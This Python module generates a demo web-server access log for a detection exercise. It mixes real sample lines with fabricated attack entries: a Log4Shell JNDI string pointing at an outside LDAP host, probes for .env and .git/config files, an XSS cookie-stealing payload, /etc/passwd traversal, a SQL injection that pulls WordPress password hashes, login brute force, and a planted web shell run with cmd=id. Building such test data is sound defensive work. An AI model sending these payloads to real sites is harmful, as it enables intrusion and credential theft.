"""The demo's visitor log: real lines of another site with current dates, and a few attacks woven in.

Each calendar day always gets the same lines (one of the sample's three days), so a second demo only adds what has
happened since the first: the role then finds exactly the new lines. Standard library only.
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

SAMPLE = Path(__file__).with_name("data") / "access_sample.log"
JAKARTA = timezone(timedelta(hours=7))
DAYS = 3
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_STAMP = re.compile(r"\[(\d\d)/(\w{3})/(\d{4}):(\d\d):(\d\d):(\d\d) [+-]\d{4}\]")
_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/128.0 Safari/537.36"
_SCANNER = "sqlmap/1.7.8#stable (https://sqlmap.org)"
_LOG4SHELL = "${jndi:ldap://203.0.113.66:1389/a}"

# Second of the day, client, request, status, size, agent. Clients are of RFC 5737's documentation networks.
Attack = tuple[int, str, str, int, int, str]
_EVERY_DAY: tuple[Attack, ...] = (
    (7_200, "203.0.113.66", "GET /.env HTTP/1.1", 404, 196, "python-requests/2.31.0"),
    (7_201, "203.0.113.66", "GET /.git/config HTTP/1.1", 404, 196, "python-requests/2.31.0"),
    (7_202, "203.0.113.66", "GET /wp-config.php.bak HTTP/1.1", 404, 196, "python-requests/2.31.0"),
    (9_031, "203.0.113.66", "GET / HTTP/1.1", 200, 5_120, _LOG4SHELL),
    (
        11_400,
        "198.51.100.23",
        "GET /cari?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1",
        200,
        2_301,
        _BROWSER,
    ),
    (13_377, "198.51.100.23", "GET /unduh?berkas=..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", 404, 196, _BROWSER),
)
_INJECTION: tuple[Attack, ...] = tuple(
    (
        15_000 + 2 * n,
        "192.0.2.66",
        f"GET /berita?id={n}%27+UNION+SELECT+1,user_pass+FROM+wp_users--+- HTTP/1.1",
        403,
        199,
        _SCANNER,
    )
    for n in range(12)
)
_BRUTE_FORCE: tuple[Attack, ...] = tuple(
    (17_000 + 3 * n, "192.0.2.77", "POST /wp-login.php HTTP/1.1", 200, 4_523, _BROWSER) for n in range(40)
)
_PLANTED: tuple[Attack, ...] = (
    (20_100, "192.0.2.99", "POST /wp-content/uploads/2026/x.php?cmd=id HTTP/1.1", 200, 54, "python-requests/2.31.0"),
    (
        20_400, "66.249.66.1", "GET /slot-gacor-maxwin-hari-ini/ HTTP/1.1", 200, 18_240,
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
)  # fmt: skip
_BY_DAY = (_EVERY_DAY + _INJECTION, _EVERY_DAY + _BRUTE_FORCE, _EVERY_DAY + _PLANTED)
_QUIET = ("arsip",)  # sites that nobody attacks: a finding opens a ticket, and a demo needs only a few
# What a server writes for a TLS handshake on its plain port, and a line that a full disk cut off.
_ODD = ('"\\x16\\x03\\x01\\x02\\x00\\x01" 400 166 "-" "-"', '"GET /berita HT')


def write(path: Path, now: datetime) -> int:
    """Write, or carry on, the log of the site whose folder is two above `path`: the last days up to `now`.

    Returns the number of lines added. The same `now`, path and earlier content give the same bytes.
    """
    path.parent.mkdir(parents=True, exist_ok=True)
    now = now.astimezone(JAKARTA).replace(microsecond=0)
    since = _last_time(path) if path.exists() else None
    begin = now - timedelta(days=DAYS)
    site = path.parent.parent.name
    added = [line for at, line in _lines(begin, now, site) if since is None or at > since]
    with path.open("a", encoding="utf-8") as stream:
        stream.writelines(f"{line}\n" for line in added)
    return len(added)


def _last_time(path: Path) -> datetime | None:
    times = [_read_time(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return max((at for at in times if at is not None), default=None)


def _read_time(line: str) -> datetime | None:
    found = _STAMP.search(line)
    if not found:
        return None
    day, month, year, hour, minute, second = found.groups()
    return datetime(int(year), _MONTHS.index(month) + 1, int(day), int(hour), int(minute), int(second), tzinfo=JAKARTA)


def _lines(begin: datetime, end: datetime, site: str) -> Iterator[tuple[datetime, str]]:
    day = begin.date()
    while day <= end.date():
        for second, template in _day(day, site):
            at = datetime(day.year, day.month, day.day, tzinfo=JAKARTA) + timedelta(seconds=second)
            if begin < at <= end:
                stamp = f"[{at.day:02}/{_MONTHS[at.month - 1]}/{at:%Y:%H:%M:%S} +0700]"
                yield at, template.replace("[]", stamp, 1)
        day += timedelta(days=1)


def _day(day: date, site: str) -> list[tuple[int, str]]:
    """One day's lines without their times, in order: a part of the sample, and which part depends on the site."""
    which = day.toordinal() % DAYS
    found = []
    for number, line in enumerate(SAMPLE.read_text(encoding="utf-8").splitlines()):
        stamp = _STAMP.search(line)
        if stamp and int(stamp.group(1)) % DAYS == which and zlib.crc32(f"{site} {number}".encode()) % 10 < 7:
            second = sum(int(part) * weight for part, weight in zip(stamp.groups()[3:], (3600, 60, 1), strict=True))
            found.append((second, line.replace(stamp.group(), "[]", 1)))
    for second, client, request, status, size, agent in () if site in _QUIET else _BY_DAY[which]:
        found.append((second, f'{client} - - [] "{request}" {status} {size} "-" "{agent}"'))
    found += [(21_000 + n, f"203.0.113.200 - - [] {text}") for n, text in enumerate(_ODD)]
    return sorted(found)
